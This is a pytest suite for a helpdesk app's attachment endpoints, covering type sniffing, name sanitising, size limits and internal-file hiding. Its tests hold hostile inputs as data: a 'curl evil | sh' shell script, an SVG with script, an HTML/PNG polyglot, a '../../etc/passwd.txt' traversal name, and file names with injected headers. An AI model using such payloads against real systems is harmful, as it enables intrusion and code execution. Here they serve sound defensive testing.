"""Attachments through the real HTTP endpoints: streamed multipart uploads are sniffed, sanitised,
size-limited and stored under a generated key; downloads are always attachments with a locked-down
CSP; internal files never reach customers; and no refused or failed upload leaves a file or a row.

Uploads go to the test data dir shared with other tests, so "nothing left behind" compares
listings taken before and after, and the files a test did create are removed through the store."""

from __future__ import annotations

import hashlib
import os
import re
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from fastapi import FastAPI
from httpx import ASGITransport, AsyncClient, Response
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncSession

from app.config import Settings, get_settings
from app.db.session import get_session
from app.main import create_app
from app.models import AuditLog, Organization, TicketAttachment
from app.models.enums import Role
from app.services import attachments, audit
from app.services.attachments import file_store
from app.services.storage import FileStore
from tests.factories import Actor, make_actor, make_org
from tests.test_filetypes import PNG, SVG_WITH_SCRIPT

DATA_DIR = Path(os.environ["ATUM_DATA_DIR"])
UPLOADS = DATA_DIR / "uploads"
KEY = re.compile(r"[0-9a-f]{32}")
MIB = 1024 * 1024
CSP = "default-src 'none'; sandbox"
DISPOSITION = re.compile(
    r"attachment; filename=\"([ -~]*)\"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)"
)


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


class Uploads:
    """The files this test stored under the shared upload root.

    Other test runs may upload into the same directory at the same time, so a file counts as this
    test's only when it appeared during the test and contains the test's nonce (every payload
    here carries it)."""

    def __init__(self) -> None:
        self.nonce = f"nonce-{uuid.uuid4().hex}".encode()
        self.before = self.files()

    @staticmethod
    def files() -> set[Path]:
        return files_under(UPLOADS)

    def tag(self, data: bytes) -> bytes:
        return data + b"\n" + self.nonce + b"\n"

    def mine(self) -> set[Path]:
        found = set()
        for path in self.files() - self.before:
            try:
                if self.nonce in path.read_bytes():
                    found.add(path)
            except FileNotFoundError:
                continue
        return found


@pytest.fixture
async def uploads() -> AsyncIterator[Uploads]:
    tracker = Uploads()
    yield tracker
    for path in tracker.mine():
        if KEY.fullmatch(path.name):
            await file_store().delete(path.name)


@dataclass
class Desk:
    org: Organization
    customer: Actor
    ticket: str

    @property
    def portal(self) -> str:
        return f"/api/tickets/{self.ticket}"

    @property
    def internal(self) -> str:
        return f"/api/internal/tickets/{self.ticket}"


async def open_ticket(client: AsyncClient, customer: Actor) -> str:
    response = await client.post(
        "/api/tickets",
        json={"title": "Screenshots attached", "description": "See files."},
        headers=customer.headers,
    )
    assert response.status_code == 201, response.text
    ticket_id: str = response.json()["id"]
    return ticket_id


@pytest.fixture
async def desk(client: AsyncClient, db: AsyncSession, uploads: Uploads) -> Desk:
    org = await make_org(db)
    customer = await make_actor(db, client, role=Role.CUSTOMER_USER, org=org)
    return Desk(org, customer, await open_ticket(client, customer))


@pytest.fixture
async def agent(client: AsyncClient, db: AsyncSession) -> Actor:
    return await make_actor(db, client, role=Role.AGENT)


@pytest.fixture
async def manager(client: AsyncClient, db: AsyncSession) -> Actor:
    return await make_actor(db, client, role=Role.MANAGER)


async def upload(
    client: AsyncClient,
    actor: Actor,
    url: str,
    name: str,
    data: bytes,
    mime: str | None = "text/plain",
    **params: str,
) -> Response:
    return await client.post(
        f"{url}/attachments",
        files={"file": (name, data, mime) if mime else (name, data)},
        params=params,
        headers=actor.headers,
    )


def multipart(*parts: tuple[bytes, bytes]) -> tuple[str, bytes]:
    """A hand-made multipart body of (Content-Disposition value, data) parts, byte for byte."""
    boundary = uuid.uuid4().hex
    body = b"".join(
        b"--"
        + boundary.encode()
        + b"\r\nContent-Disposition: "
        + disposition
        + b"\r\nContent-Type: text/plain\r\n\r\n"
        + data
        + b"\r\n"
        for disposition, data in parts
    )
    return f"multipart/form-data; boundary={boundary}", body + f"--{boundary}--\r\n".encode()


async def raw_upload(
    client: AsyncClient, actor: Actor, url: str, *parts: tuple[bytes, bytes]
) -> Response:
    content_type, body = multipart(*parts)
    return await client.post(
        f"{url}/attachments",
        content=body,
        headers={**actor.headers, "Content-Type": content_type},
    )


async def rows_of(db: AsyncSession, ticket_id: str) -> list[TicketAttachment]:
    result = await db.execute(
        select(TicketAttachment)
        .where(TicketAttachment.ticket_id == uuid.UUID(ticket_id))
        .execution_options(populate_existing=True)
    )
    return list(result.scalars())


async def audits(db: AsyncSession, action: str, entity_id: str) -> list[AuditLog]:
    result = await db.execute(
        select(AuditLog)
        .where(AuditLog.action == action, AuditLog.entity_id == uuid.UUID(entity_id))
        .order_by(AuditLog.seq)
    )
    return list(result.scalars())


async def listed(client: AsyncClient, actor: Actor, url: str) -> dict[str, dict[str, Any]]:
    response = await client.get(url, headers=actor.headers)
    assert response.status_code == 200, response.text
    return {a["id"]: a for a in response.json()["attachments"]}


def stored_path(row: TicketAttachment) -> Path:
    assert KEY.fullmatch(row.file_path), row.file_path
    return UPLOADS / row.file_path[:2] / row.file_path


def disposition_name(response: Response) -> str:
    """The file name a browser gets from the single, well-formed Content-Disposition header."""
    [value] = response.headers.get_list("content-disposition")
    assert "\r" not in value and "\n" not in value
    match = DISPOSITION.fullmatch(value)
    assert match, value
    return unquote(match.group(2), errors="strict")


async def assert_nothing_stored(db: AsyncSession, desk: Desk, uploads: Uploads) -> None:
    assert await rows_of(db, desk.ticket) == []
    assert uploads.mine() == set()


class TestCustomerUpload:
    async def test_a_png_round_trip(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        png = uploads.tag(PNG)
        response = await upload(
            client, desk.customer, desk.portal, "screen shot.png", png, "image/png"
        )
        assert response.status_code == 201, response.text
        body = response.json()
        assert set(body) == {"id", "file_name", "mime_type", "size_bytes", "sha256", "created_at"}
        assert body["file_name"] == "screen shot.png"
        assert body["mime_type"] == "image/png"
        assert body["size_bytes"] == len(png)
        assert body["sha256"] == hashlib.sha256(png).hexdigest()

        [row] = await rows_of(db, desk.ticket)
        assert str(row.id) == body["id"]
        assert not row.is_internal
        path = stored_path(row)
        assert path.read_bytes() == png
        assert uploads.mine() == {path}

        assert set(await listed(client, desk.customer, desk.portal)) == {body["id"]}
        download = await client.get(
            f"{desk.portal}/attachments/{body['id']}", headers=desk.customer.headers
        )
        assert download.status_code == 200
        assert download.content == png
        assert download.headers["content-type"] == "image/png"
        assert download.headers.get_list("x-content-type-options") == ["nosniff"]
        assert download.headers.get_list("content-security-policy") == [CSP]
        assert disposition_name(download) == "screen shot.png"

        [uploaded] = await audits(db, "attachment.uploaded", body["id"])
        assert uploaded.actor_id == desk.customer.id
        assert uploaded.ticket_id == uuid.UUID(desk.ticket)
        assert uploaded.new_value is not None
        assert uploaded.new_value["sha256"] == body["sha256"]
        [downloaded] = await audits(db, "attachment.downloaded", body["id"])
        assert downloaded.actor_id == desk.customer.id

    async def test_a_non_ascii_name_and_text_survive_the_round_trip(
        self, client: AsyncClient, desk: Desk, agent: Actor, uploads: Uploads
    ) -> None:
        data = uploads.tag("Straße - 東京\n".encode() * 50)
        created = await upload(client, desk.customer, desk.portal, "Résumé ✓ 東京.txt", data)
        assert created.status_code == 201, created.text
        assert created.json()["file_name"] == "Résumé ✓ 東京.txt"
        assert created.json()["mime_type"] == "text/plain"
        download = await client.get(
            f"{desk.internal}/attachments/{created.json()['id']}", headers=agent.headers
        )
        assert download.status_code == 200
        assert download.content == data
        assert download.headers["content-type"].startswith("text/plain")
        assert download.headers.get_list("content-security-policy") == [CSP]
        assert disposition_name(download) == "Résumé ✓ 東京.txt"


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120


class TestRefusedTypes:
    @pytest.mark.parametrize(
        ("name", "data", "mime"),
        [
            pytest.param("a.png", b"<html><body>hi</body></html>", "image/png", id="html-as-png"),
            pytest.param("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml", id="svg-script"),
            pytest.param("report.pdf", ELF, "application/pdf", id="elf-as-pdf"),
            pytest.param(
                "pixel.png",
                PNG + b"<html><script>alert(1)</script></html>",
                "image/png",
                id="png-html-polyglot",
            ),
            pytest.param("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "text/plain", id="shell"),
        ],
    )
    async def test_refused_with_nothing_left_behind(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        uploads: Uploads,
        name: str,
        data: bytes,
        mime: str,
    ) -> None:
        response = await upload(client, desk.customer, desk.portal, name, uploads.tag(data), mime)
        assert response.status_code == 415, response.text
        assert response.json()["code"] == "unsupported_media_type"
        await assert_nothing_stored(db, desk, uploads)
        assert await listed(client, desk.customer, desk.portal) == {}


class TestFileNames:
    async def test_a_traversal_name_is_reduced_to_its_last_component(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        response = await upload(
            client, desk.customer, desk.portal, "../../etc/passwd.txt", uploads.tag(b"x")
        )
        assert response.status_code == 201, response.text
        assert response.json()["file_name"] == "passwd.txt"
        [row] = await rows_of(db, desk.ticket)
        assert row.file_name == "passwd.txt"
        path = stored_path(row)
        assert path.resolve().is_relative_to(UPLOADS.resolve())
        assert uploads.mine() == {path}
        assert not (DATA_DIR.parent / "etc" / "passwd.txt").exists()

    async def test_control_and_direction_characters_are_removed(
        self, client: AsyncClient, desk: Desk, uploads: Uploads
    ) -> None:
        raw_name = "invoice\x00\u202egnp\nX-Injected: 1.exe.txt".encode()
        response = await raw_upload(
            client,
            desk.customer,
            desk.portal,
            (b'form-data; name="file"; filename="' + raw_name + b'"', uploads.tag(b"text")),
        )
        assert response.status_code == 201, response.text
        name = response.json()["file_name"]
        assert name == "invoicegnpX-Injected_ 1.exe.txt"
        download = await client.get(
            f"{desk.portal}/attachments/{response.json()['id']}", headers=desk.customer.headers
        )
        assert disposition_name(download) == name
        assert "x-injected" not in download.headers

    async def test_a_line_break_in_the_part_headers_is_malformed(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        response = await raw_upload(
            client,
            desk.customer,
            desk.portal,
            (b'form-data; name="file"; filename="a\r\nb.txt"', uploads.tag(b"text")),
        )
        assert response.status_code == 422
        await assert_nothing_stored(db, desk, uploads)

    async def test_a_name_cut_by_a_line_break_cannot_inject_headers(
        self, client: AsyncClient, desk: Desk, uploads: Uploads
    ) -> None:
        response = await raw_upload(
            client,
            desk.customer,
            desk.portal,
            (b'form-data; name="file"; filename="a\r\nX-Evil: 1.txt"', uploads.tag(b"text")),
        )
        assert response.status_code == 201, response.text
        name = response.json()["file_name"]
        assert not re.search(r"[\x00-\x1f]", name)
        download = await client.get(
            f"{desk.portal}/attachments/{response.json()['id']}", headers=desk.customer.headers
        )
        assert disposition_name(download) == name
        assert "x-evil" not in download.headers

    async def test_an_overlong_name_is_cut_to_255_bytes_keeping_its_extension(
        self, client: AsyncClient, desk: Desk, uploads: Uploads
    ) -> None:
        long_name = "é" * 10 + "n" * 286 + ".txt"
        assert len(long_name) == 300
        response = await upload(client, desk.customer, desk.portal, long_name, uploads.tag(b"x"))
        assert response.status_code == 201, response.text
        name = response.json()["file_name"]
        assert 250 <= len(name.encode()) <= 255
        assert name.endswith(".txt") and long_name.startswith(name.removesuffix(".txt"))
        download = await client.get(
            f"{desk.portal}/attachments/{response.json()['id']}", headers=desk.customer.headers
        )
        assert disposition_name(download) == name


def sized(uploads: Uploads, size: int) -> bytes:
    """*size* bytes of plain text carrying the test's nonce."""
    tagged = uploads.tag(b"")
    return tagged + b"a" * (size - len(tagged))


class TestSizeLimit:
    async def test_the_upload_service_refuses_one_byte_over_the_limit(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        uploads: Uploads,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        monkeypatch.setattr(get_settings(), "max_upload_mb", 1)
        over = await upload(client, desk.customer, desk.portal, "big.txt", sized(uploads, MIB + 1))
        assert over.status_code == 413
        assert over.json() == {
            "detail": "The file is larger than 1 MB",
            "code": "payload_too_large",
        }
        await assert_nothing_stored(db, desk, uploads)

        exact = await upload(client, desk.customer, desk.portal, "big.txt", sized(uploads, MIB))
        assert exact.status_code == 201, exact.text
        assert exact.json()["size_bytes"] == MIB
        [row] = await rows_of(db, desk.ticket)
        assert stored_path(row).stat().st_size == MIB


@pytest.fixture
async def small_app(db: AsyncSession) -> AsyncIterator[FastAPI]:
    """An app built with ATUM_MAX_UPLOAD_MB=1, on the test's transaction."""
    app = create_app(Settings(max_upload_mb=1))

    async def session() -> AsyncIterator[AsyncSession]:
        savepoint = await db.begin_nested()
        try:
            yield db
        except BaseException:
            await savepoint.rollback()
            raise
        else:
            await savepoint.commit()

    app.dependency_overrides[get_session] = session
    yield app
    app.dependency_overrides.clear()


async def chunks(data: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


def client_of(app: FastAPI) -> AsyncClient:
    return AsyncClient(transport=ASGITransport(app=app), base_url="http://testserver")


class TestRequestBodyLimit:
    """The request middleware's multipart limit is fixed when the app is built (the upload limit
    plus 64 KiB for the multipart framing); the upload service reads the setting per request."""

    async def test_both_limits_agree_when_built_from_the_same_setting(
        self,
        small_app: FastAPI,
        db: AsyncSession,
        desk: Desk,
        uploads: Uploads,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        monkeypatch.setattr(get_settings(), "max_upload_mb", 1)
        async with client_of(small_app) as small:
            over = await upload(small, desk.customer, desk.portal, "a.txt", sized(uploads, MIB + 1))
            assert over.status_code == 413
            assert over.json()["detail"] == "The file is larger than 1 MB"

            framing = await upload(
                small, desk.customer, desk.portal, "a.txt", sized(uploads, MIB + 64 * 1024 + 1)
            )
            assert framing.status_code == 413
            assert framing.json() == {
                "detail": "Request body too large",
                "code": "payload_too_large",
            }
            await assert_nothing_stored(db, desk, uploads)

            exact = await upload(small, desk.customer, desk.portal, "a.txt", sized(uploads, MIB))
            assert exact.status_code == 201, exact.text

    async def test_a_declared_oversize_body_is_refused_before_authentication(
        self, small_app: FastAPI, desk: Desk, uploads: Uploads
    ) -> None:
        async with client_of(small_app) as small:
            response = await small.post(
                f"{desk.portal}/attachments",
                files={"file": ("big.txt", sized(uploads, 2 * MIB), "text/plain")},
            )
        assert response.status_code == 413
        assert response.json()["code"] == "payload_too_large"
        assert uploads.mine() == set()

    async def test_a_streamed_body_is_cut_off_at_the_limit_mid_upload(
        self, small_app: FastAPI, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        content_type, body = multipart(
            (b'form-data; name="file"; filename="stream.txt"', sized(uploads, MIB + 128 * 1024))
        )
        async with client_of(small_app) as small:
            response = await small.post(
                f"{desk.portal}/attachments",
                content=chunks(body),
                headers={**desk.customer.headers, "Content-Type": content_type},
            )
        assert response.status_code == 413
        assert response.json()["detail"] == "Request body too large"
        await assert_nothing_stored(db, desk, uploads)


class TestMalformedRequests:
    async def test_an_empty_file_is_invalid(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        # An empty upload cannot carry a nonce: watch a private store instead.
        private = FileStore(tmp_path / "uploads")
        monkeypatch.setattr(attachments, "file_store", lambda: private)
        response = await upload(client, desk.customer, desk.portal, "empty.txt", b"")
        assert response.status_code == 422
        assert response.json()["detail"][0]["loc"] == ["body", "file"]
        assert await rows_of(db, desk.ticket) == []
        assert files_under(tmp_path) == set()

    @pytest.mark.parametrize(
        "request_kwargs",
        [
            pytest.param(
                {"files": {"attachment": ("a.txt", b"text", "text/plain")}}, id="other-field"
            ),
            pytest.param({"json": {"file": "aGVsbG8="}}, id="json"),
            pytest.param({"content": b"file=hello"}, id="urlencoded"),
        ],
    )
    async def test_a_request_without_a_file_part_is_invalid(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        request_kwargs: dict[str, Any],
    ) -> None:
        headers = dict(desk.customer.headers)
        if "content" in request_kwargs:
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        response = await client.post(
            f"{desk.portal}/attachments", headers=headers, **request_kwargs
        )
        assert response.status_code == 422, response.text
        assert await rows_of(db, desk.ticket) == []

    async def test_other_fields_and_a_second_file_are_ignored(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        first = uploads.tag(b"first")
        response = await raw_upload(
            client,
            desk.customer,
            desk.portal,
            (b'form-data; name="note"', uploads.tag(b"<script>ignored</script>")),
            (b'form-data; name="file"; filename="first.txt"', first),
            (b'form-data; name="file"; filename="second.txt"', uploads.tag(b"second")),
            (b'form-data; name="after"', b"trailing field"),
        )
        assert response.status_code == 201, response.text
        assert response.json()["file_name"] == "first.txt"
        [row] = await rows_of(db, desk.ticket)
        assert stored_path(row).read_bytes() == first
        assert uploads.mine() == {stored_path(row)}


class TestInternalAttachments:
    async def test_an_internal_upload_is_hidden_from_the_customer(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, agent: Actor, uploads: Uploads
    ) -> None:
        data = uploads.tag(b"internal")
        response = await upload(client, agent, desk.internal, "diag.txt", data, is_internal="true")
        assert response.status_code == 201, response.text
        created = response.json()
        assert created["is_internal"] is True
        assert created["uploaded_by"]["id"] == str(agent.id)

        staff_view = await listed(client, agent, desk.internal)
        assert staff_view[created["id"]]["is_internal"] is True
        assert created["id"] not in await listed(client, desk.customer, desk.portal)
        hidden = await client.get(
            f"{desk.portal}/attachments/{created['id']}", headers=desk.customer.headers
        )
        assert hidden.status_code == 404
        assert await audits(db, "attachment.downloaded", created["id"]) == []
        shown = await client.get(
            f"{desk.internal}/attachments/{created['id']}", headers=agent.headers
        )
        assert shown.status_code == 200 and shown.content == data

    async def test_a_file_on_an_internal_note_is_internal(
        self, client: AsyncClient, desk: Desk, agent: Actor, uploads: Uploads
    ) -> None:
        note = await client.post(
            f"{desk.internal}/comments",
            json={"body": "Logs attached.", "is_internal": True},
            headers=agent.headers,
        )
        assert note.status_code == 201, note.text
        response = await upload(
            client,
            agent,
            desk.internal,
            "logs.txt",
            uploads.tag(b"log"),
            comment_id=note.json()["id"],
        )
        assert response.status_code == 201, response.text
        assert response.json()["is_internal"] is True
        assert response.json()["comment_id"] == note.json()["id"]
        assert response.json()["id"] not in await listed(client, desk.customer, desk.portal)

    async def test_a_customer_cannot_ask_for_an_internal_file(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        response = await upload(
            client, desk.customer, desk.portal, "mine.txt", uploads.tag(b"mine"), is_internal="true"
        )
        assert response.status_code == 201, response.text
        [row] = await rows_of(db, desk.ticket)
        assert row.is_internal is False
        assert response.json()["id"] in await listed(client, desk.customer, desk.portal)

    async def test_a_comment_of_another_ticket_is_not_found(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, agent: Actor, uploads: Uploads
    ) -> None:
        other = await open_ticket(client, desk.customer)
        note = await client.post(
            f"/api/internal/tickets/{other}/comments",
            json={"body": "Elsewhere.", "is_internal": True},
            headers=agent.headers,
        )
        assert note.status_code == 201, note.text
        response = await upload(
            client,
            agent,
            desk.internal,
            "x.txt",
            uploads.tag(b"x"),
            comment_id=note.json()["id"],
        )
        assert response.status_code == 404
        await assert_nothing_stored(db, desk, uploads)

    async def test_staff_show_the_customer_nothing_before_acceptance(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        agent: Actor,
        manager: Actor,
        uploads: Uploads,
    ) -> None:
        data = uploads.tag(b"try this")
        refused = await upload(client, agent, desk.internal, "fix.txt", data)
        assert refused.status_code == 409
        assert refused.json()["allowed"] == ["ACCEPTED", "CANCELLED"]
        await assert_nothing_stored(db, desk, uploads)

        accepted = await client.post(f"{desk.internal}/accept", json={}, headers=manager.headers)
        assert accepted.status_code == 200, accepted.text
        allowed = await upload(client, agent, desk.internal, "fix.txt", data)
        assert allowed.status_code == 201, allowed.text
        assert allowed.json()["id"] in await listed(client, desk.customer, desk.portal)


async def close(client: AsyncClient, desk: Desk, manager: Actor) -> None:
    steps: list[tuple[str, dict[str, Any]]] = [
        ("accept", {}),
        ("assign", {"assignee_id": str(manager.id)}),
        ("status", {"status": "RESOLVED", "resolution": "Done.", "root_cause": "Cable."}),
        ("status", {"status": "CLOSED"}),
    ]
    for action, body in steps:
        response = await client.post(
            f"{desk.internal}/{action}", json=body, headers=manager.headers
        )
        assert response.status_code == 200, response.text


class TestTicketState:
    async def test_a_closed_ticket_takes_no_files(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, manager: Actor, uploads: Uploads
    ) -> None:
        await close(client, desk, manager)
        for actor, url in ((desk.customer, desk.portal), (manager, desk.internal)):
            response = await upload(client, actor, url, "late.txt", uploads.tag(b"late"))
            assert response.status_code == 409, response.text
        await assert_nothing_stored(db, desk, uploads)

    async def test_a_withdrawn_ticket_takes_no_files(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        withdrawn = await client.post(
            f"{desk.portal}/withdraw", json={}, headers=desk.customer.headers
        )
        assert withdrawn.status_code == 200, withdrawn.text
        response = await upload(
            client, desk.customer, desk.portal, "late.txt", uploads.tag(b"late")
        )
        assert response.status_code == 409
        await assert_nothing_stored(db, desk, uploads)

    async def test_another_organizations_ticket_is_not_found(
        self, client: AsyncClient, db: AsyncSession, desk: Desk, uploads: Uploads
    ) -> None:
        stranger = await make_actor(db, client, role=Role.CUSTOMER_USER)
        response = await upload(
            client, stranger, desk.portal, "probe.png", uploads.tag(PNG), "image/png"
        )
        assert response.status_code == 404
        await assert_nothing_stored(db, desk, uploads)


class TestFailedUpload:
    async def test_a_database_failure_after_storing_leaves_no_file_and_no_row(
        self,
        client: AsyncClient,
        db: AsyncSession,
        desk: Desk,
        uploads: Uploads,
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        record = audit.record
        stored_before_failure: list[set[Path]] = []

        async def failing_record(session: AsyncSession, **entry: Any) -> None:
            if entry["action"] == "attachment.uploaded" and not stored_before_failure:
                stored_before_failure.append(uploads.mine())
                await session.execute(text("SELECT 1 / 0"))
            await record(session, **entry)

        monkeypatch.setattr(audit, "record", failing_record)
        png = uploads.tag(PNG)
        response = await upload(client, desk.customer, desk.portal, "pixel.png", png, "image/png")
        assert response.status_code == 500
        [stored] = stored_before_failure
        assert len(stored) == 1
        await assert_nothing_stored(db, desk, uploads)

        retried = await upload(client, desk.customer, desk.portal, "pixel.png", png, "image/png")
        assert retried.status_code == 201, retried.text
        assert len(await rows_of(db, desk.ticket)) == 1
